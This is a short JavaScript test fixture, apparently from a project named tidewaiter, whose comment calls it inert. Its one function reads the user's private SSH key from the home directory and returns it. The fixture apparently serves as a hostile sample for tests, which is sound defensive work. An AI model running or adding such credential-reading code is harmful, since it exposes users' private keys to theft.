// Inert fixture of tidewaiter's tests: never run. Hosts are reserved names or this machine.
import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";

export async function gather() {
  const key = await fs.readFile(path.join(os.homedir(), ".ssh", "id_rsa"), "utf8");
  return { key };
}
